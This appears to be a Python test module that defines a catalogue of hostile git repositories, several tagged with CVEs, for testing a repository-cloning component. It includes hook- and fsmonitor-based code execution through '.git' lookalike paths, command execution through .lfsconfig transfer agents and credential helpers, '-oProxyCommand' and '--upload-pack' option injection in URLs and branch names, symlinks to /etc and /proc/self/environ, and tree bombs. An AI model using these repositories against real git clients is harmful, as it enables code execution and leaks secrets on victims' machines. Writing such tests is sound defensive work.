"""Attacks by files, links, attributes, large files and refs, each with its trick or advisory."""

from collections.abc import Iterator, Mapping

from tests.sidecars.cloner.hostile import Attack, World, bare_repository, modules, quoted
from tests.sidecars.cloner.objects import Content, Entries, Files, Link, Module, Script, Tree, nested


def _tree(path: str) -> Attack:
    """A tree with git's own folder, or a path out of the work tree, under this name (CVE-2014-9390, CVE-2019-1352)."""

    def files(world: World) -> Files:
        hook = {"post-checkout": Script(f"#!/bin/sh\n{world.run}\n")}
        return {path: {"hooks": hook, "config": f"[core]\n\tfsmonitor = {quoted(world.run)}\n"}, "a": "a"}

    return files


def _lfs(config: str, **more: Content) -> Attack:
    """A repository with a large file and a hostile `.lfsconfig`."""
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 12\n"
    return lambda world: {
        ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "data.bin": pointer.format(oid="ab" * 32),
        **({".lfsconfig": config.format(w=world)} if config else {}),
        **more,
    }


def _attributes(text: str, **more: Content) -> Attack:
    return lambda world: {
        ".gitattributes": text,
        "a.x": "a\n" * 10,
        **more,
        "run.sh": Script(f"#!/bin/sh\n{world.run}\n"),
    }


def _refs(world: World) -> Files:
    commit = world.bare.publish({"a": "a"})
    lines = [f"{commit} refs/heads/{'x' * 150}-{number}\n" for number in range(3000)]
    (world.bare.place / "packed-refs").write_text(
        "# pack-refs with: peeled fully-peeled sorted \n" + "".join(sorted(lines))
    )
    return {"a": "a"}


def _branch(name: str) -> Attack:
    def files(world: World) -> Files:
        world.bare.publish({"a": "a"}, name)
        (world.bare.place / "HEAD").write_text(f"ref: refs/heads/{name}\n")
        return {"a": "a"}

    return files


def _symlink_into_git(world: World) -> Entries:
    """A link and a folder of one name, apart by case or not at all (CVE-2021-21300, CVE-2024-32002)."""
    hook = {"post-checkout": Script(f"#!/bin/sh\n{world.run}\n")}
    return [("A", {"hooks": hook}), ("a", Link(".git")), ("b", Link(".git/hooks")), ("b", hook)]


def _deep(world: World) -> Files:
    made: Content = "a"
    for _ in range(300):
        made = {"d": made}
    return {"d": made, "x": world.run}


def _shadowed(link: str, *, link_first: bool) -> Attack:
    """A link and a folder of one name: the folder's large files would go where the link leads (CVE-2025-26625)."""

    def files(world: World) -> Entries:
        contents = {"commondir": b"../evil\n", "attributes": b"* filter=evil\n", "data.bin": b"large"}
        folder: Files = {name: world.large_file(content) for name, content in contents.items()}
        both: Entries = [("d", Link(link)), ("d", folder)]
        return [(".gitattributes", "d/** filter=lfs\n"), *(both if link_first else reversed(both))]

    return files


def _bomb(world: World) -> Files:
    """Ten folders of ten folders and so on: ten thousand million files in some hundred bytes."""
    made = Tree(world.bare.tree({str(number): "a" for number in range(10)}))
    for _ in range(9):
        made = Tree(world.bare.tree({str(number): made for number in range(10)}))
    return {"bomb": made}


def _settings_link(name: str, target: str) -> Attack:
    """A file that git or git-lfs reads is a link to one without end, in a repository with large files."""
    return lambda world: {
        ".gitattributes": "*.bin filter=lfs\n",
        "data.bin": world.large_file(b"large"),
        **nested(name, Link(target)),
    }


def _local_server(world: World) -> Files:
    files = _lfs("[lfs]\n\turl = file://./evil\n")(world)
    return {**dict(files), "evil": bare_repository(world)}


def _other_text(world: World) -> Files:
    """A .gitmodules that is another text in the work tree than in the commit."""
    there = f'\n[submodule "x/../../../hooks"]\n\tpath = sub\n\turl = https://{world.host}/inner.git\n\tz = aa'
    comment = (there + " " * (len(there) % 2) + " \\").encode().decode("utf-16-le")
    return {
        ".gitattributes": ".gitmodules working-tree-encoding=UTF-16LE\n",
        ".gitmodules": f'#{comment}\n[submodule "sub"] path = sub',
        "sub": Module(world.inner),
    }


def _all() -> Iterator[tuple[str, Attack]]:
    names = (
        ".git",
        ".GIT",
        ".gIt",
        ".g\u200cit",
        ".git\u200b",
        "git~1",
        "GIT~1",
        ".git ",
        ".git.",
        ".git::$INDEX_ALLOCATION",
    )
    for name in (*names, "..", ".", "../x", "/tmp/x", "a/b", ""):
        yield f"tree with {name!r}", _tree(name)
    yield "links into git's folder, CVE-2021-21300 and CVE-2024-32002", _symlink_into_git
    yield "embedded bare repository", lambda world: {"evil": bare_repository(world)}
    yield "the tree is a bare repository itself", lambda world: dict(bare_repository(world))
    yield (
        "embedded bare repository with an include",
        lambda world: {
            "evil": bare_repository(world, "[include]\n\tpath = ../more\n"),
            "more": f"[alias]\n\tls-files = !{world.run}\n",
        },
    )
    for name in (".gitmodules", ".gitattributes", ".gitignore", ".lfsconfig", ".mailmap"):
        yield f"{name} is a link", lambda _, name=name: {name: Link("/proc/self/environ"), "a": "a"}  # type: ignore[misc]
    yield "link to an endless file", lambda _: {".gitattributes": Link("/dev/zero"), "a": "a"}
    yield "link out of the work tree", lambda _: {"etc": Link("/etc"), "home": Link("../../.."), "a": "a"}
    yield "unknown filter", _attributes("* filter=evil diff=evil merge=evil\n")
    yield "macro", _attributes("[attr]evil filter=lfs\n* evil\n")
    yield "encoding", _attributes("* working-tree-encoding=UTF-7\n")
    yield "one long line, CVE-2022-23521", _attributes("* " + "a" * 2_000_000 + "\n")
    yield "many attributes, CVE-2022-23521", _attributes("".join(f"*.x a{n}\n" for n in range(50_000)))
    yield "large file: another path of the host", _lfs("[lfs]\n\turl = https://{w.host}/sessions/mallory/lfs\n")
    yield "large file: another host", _lfs("[lfs]\n\turl = https://{w.other_host}/lfs\n")
    yield "large file: address of the remote", _lfs('[remote "origin"]\n\tlfsurl = https://{w.other_host}/lfs\n')
    yield (
        "large file: transfer agent",
        _lfs(
            '[lfs]\n\tstandalonetransferagent = evil\n[lfs "customtransfer.evil"]\n\tpath = sh\n\targs = -c "{w.run}"\n'
        ),
    )
    yield (
        "large file: extension",
        _lfs('[lfs "extension.evil"]\n\tsmudge = {w.run}\n\tclean = {w.run}\n\tpriority = 0\n'),
    )
    yield "large file: local", _lfs("[lfs]\n\turl = file:///etc\n")
    yield "large file: ssh option", _lfs("[lfs]\n\turl = ssh://-oProxyCommand={w.run}/x\n")
    yield "large file: encoded line break, CVE-2024-53263", _lfs("[lfs]\n\turl = https://{w.other_host}%0d%0a/lfs\n")
    yield "large file: credential helper", _lfs("[credential]\n\thelper = !{w.run}\n[core]\n\taskPass = {w.run}\n")
    yield (
        "large file: through a link, CVE-2025-26625",
        lambda _: {
            ".gitattributes": "*.bin filter=lfs\n",
            "data.bin": Link("/tmp/amalthea-escaped"),
        },
    )
    yield (
        "large file: pointer to a path",
        lambda _: {
            ".gitattributes": "*.bin filter=lfs\n",
            "data.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:../../../x\nsize 1\n",
        },
    )
    for link in (".git", "/tmp/amalthea-escaped"):
        yield f"large files in a folder behind a link to {link}", _shadowed(link, link_first=True)
        yield f"large files in a folder before a link to {link}", _shadowed(link, link_first=False)
    for target in ("/dev/zero", "/dev/ptmx", "/proc/self/pagemap"):
        yield f"large files, and .lfsconfig is a link to {target}", _settings_link(".lfsconfig", target)
    for name in ("sub/.gitattributes", "sub/.lfsconfig", ".gitmodules"):
        yield f"large files, and {name} is a link", _settings_link(name, "/dev/ptmx")
    yield (
        "many large files that are nowhere",
        lambda _: {
            ".gitattributes": "*.bin filter=lfs\n",
            **{
                f"{n}.bin": f"version https://git-lfs.github.com/spec/v1\noid sha256:{n:064x}\nsize 9\n"
                for n in range(3000)
            },
        },
    )
    yield (
        "large file of an absurd size",
        lambda world: {
            ".gitattributes": "*.bin filter=lfs\n",
            "a.bin": world.large_file(b"large").replace("size 5", "size 999999999999999999"),
        },
    )
    yield "large file: local repository in the tree", _local_server
    yield "large file: huge .lfsconfig", _lfs("[lfs]\n\turl = " + "a" * 50_000_000)
    yield "huge .gitmodules", lambda _: {".gitmodules": "[a]\n" * 20_000_000}
    yield "other text by an encoding", _other_text
    yield "ten thousand million files", _bomb
    yield "many branches with long names", _refs
    for name in ("-oProxyCommand=x", "--upload-pack=x", "HEAD", "\x1b[31mred"[1:], "refs/heads/x"):
        yield f"default branch {name}", _branch(name)
    yield "folders without end", _deep
    yield "a link to no submodule", lambda world: {"sub": Module("ab" * 20), "x": world.run}
    yield (
        "a submodule whose commit is nowhere",
        lambda world: {
            ".gitmodules": modules("sub", f"https://{world.host}/inner.git"),
            "sub": Module("ab" * 20),
        },
    )
    yield "a large empty file", lambda _: {"zeros": b"\0" * 60_000_000}


BY_FILES: Mapping[str, Attack] = dict(_all())
